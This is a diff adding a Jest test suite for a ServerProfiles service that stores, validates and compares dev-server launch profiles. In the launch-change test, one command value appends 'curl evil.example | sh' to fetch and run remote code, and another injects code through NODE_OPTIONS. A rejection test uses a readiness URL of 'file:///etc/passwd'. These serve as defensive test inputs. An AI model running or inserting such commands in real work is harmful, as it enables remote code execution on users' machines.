@@ -0,0 +1,109 @@
+const ServerProfiles = require('../../src/services/ServerProfiles');
+const { useStorageDir } = require('../helpers/storeFixtures');
+
+jest.mock('electron-log', () => require('../helpers/storeFixtures').createLogMock());
+
+describe('ServerProfiles', () => {
+  const storage = useStorageDir('server-profiles-');
+  let profiles;
+
+  const validProfile = {
+    name: 'My API',
+    command: 'npm run dev',
+    cwd: '/home/dev/my-api',
+    env: { NODE_ENV: 'development', PORT: 4000 },
+    expectedPort: '4000',
+    readinessUrl: 'http://localhost:4000/health'
+  };
+
+  beforeEach(() => {
+    profiles = new ServerProfiles(storage.userDataDir);
+  });
+
+  it('should start empty when no profile file exists', async () => {
+    expect(await profiles.getProfiles()).toEqual([]);
+  });
+
+  it('should create a profile and persist it in the storage directory', async () => {
+    const result = await profiles.saveProfile(validProfile);
+
+    expect(result.success).toBe(true);
+    expect(result.profile).toMatchObject({
+      name: 'My API',
+      command: 'npm run dev',
+      env: { NODE_ENV: 'development', PORT: '4000' },
+      expectedPort: 4000
+    });
+    expect(result.profile.id).toEqual(expect.any(String));
+
+    const reloaded = new ServerProfiles(storage.userDataDir);
+    expect(await reloaded.getProfiles()).toEqual([result.profile]);
+  });
+
+  it('should update an existing profile in place', async () => {
+    const { profile } = await profiles.saveProfile(validProfile);
+
+    const result = await profiles.saveProfile({ ...profile, command: 'npm start' });
+
+    expect(result.success).toBe(true);
+    expect(result.profile.createdAt).toBe(profile.createdAt);
+    expect(await profiles.getProfiles()).toHaveLength(1);
+    expect((await profiles.getProfile(profile.id)).command).toBe('npm start');
+  });
+
+  it('should keep both of two overlapping saves', async () => {
+    const [api, web] = await Promise.all([
+      profiles.saveProfile(validProfile),
+      profiles.saveProfile({ ...validProfile, name: 'My Web', command: 'npm run web' })
+    ]);
+
+    const reloaded = new ServerProfiles(storage.userDataDir);
+    expect(await reloaded.getProfiles()).toEqual([api.profile, web.profile]);
+  });
+
+  it('should tell whether a save changes what the profile launches', async () => {
+    const { profile } = await profiles.saveProfile(validProfile);
+
+    expect(await profiles.changesLaunch(validProfile)).toBe(true);
+    expect(await profiles.changesLaunch({ ...profile, name: 'Renamed', readinessUrl: '' })).toBe(false);
+    expect(await profiles.changesLaunch({ ...profile, command: ' npm run dev ' })).toBe(false);
+    expect(await profiles.changesLaunch({ ...profile, command: 'npm run dev; curl evil.example | sh' })).toBe(true);
+    expect(await profiles.changesLaunch({ ...profile, cwd: '/tmp' })).toBe(true);
+    expect(await profiles.changesLaunch({ ...profile, env: { ...profile.env, NODE_OPTIONS: '--require ./hook.js' } })).toBe(true);
+  });
+
+  it('should reject invalid profiles', async () => {
+    expect(await profiles.saveProfile({ ...validProfile, name: ' ' })).toEqual({ success: false, code: 'INVALID_REQUEST', error: 'Profile name is required' });
+    expect(await profiles.saveProfile({ ...validProfile, command: '' })).toEqual({ success: false, code: 'INVALID_REQUEST', error: 'Command is required' });
+    expect((await profiles.saveProfile({ ...validProfile, expectedPort: 70000 })).error).toMatch('Invalid expected port');
+    expect((await profiles.saveProfile({ ...validProfile, readinessUrl: 'file:///etc/passwd' })).error).toMatch('http or https');
+    expect(await profiles.saveProfile({ ...validProfile, id: 'missing' })).toMatchObject({ code: 'NOT_FOUND', error: expect.stringContaining('not found') });
+  });
+
+  it('should validate the readiness signal against the fields it needs', async () => {
+    expect((await profiles.saveProfile({ ...validProfile, readinessType: 'tcp' })).error).toMatch('Unknown readiness check');
+    expect((await profiles.saveProfile({ ...validProfile, readinessType: 'port', expectedPort: '' })).error).toMatch('expected port is required');
+    expect((await profiles.saveProfile({ ...validProfile, readinessType: 'log', readinessPattern: 'ready (' })).error).toMatch('Invalid log pattern');
+    expect((await profiles.saveProfile({ ...validProfile, readinessTimeout: 0.5 })).error).toMatch('between 1 and 600 seconds');
+
+    const result = await profiles.saveProfile({ ...validProfile, readinessType: 'log', readinessPattern: 'ready in \\d+ ms', readinessTimeout: '45' });
+    expect(result.profile).toMatchObject({ readinessType: 'log', readinessPattern: 'ready in \\d+ ms', readinessTimeout: 45 });
+  });
+
+  it('should delete profiles', async () => {
+    const { profile } = await profiles.saveProfile(validProfile);
+
+    expect(await profiles.deleteProfile(profile.id)).toEqual({ success: true });
+    expect(await profiles.getProfiles()).toEqual([]);
+    expect((await profiles.deleteProfile(profile.id)).success).toBe(false);
+  });
+
+  it('should not expose its internal state to callers', async () => {
+    await profiles.saveProfile(validProfile);
+
+    const [copy] = await profiles.getProfiles();
+    copy.env.NODE_ENV = 'production';
+
+    expect((await profiles.getProfiles())[0].env.NODE_ENV).toBe('development');
+  });
+});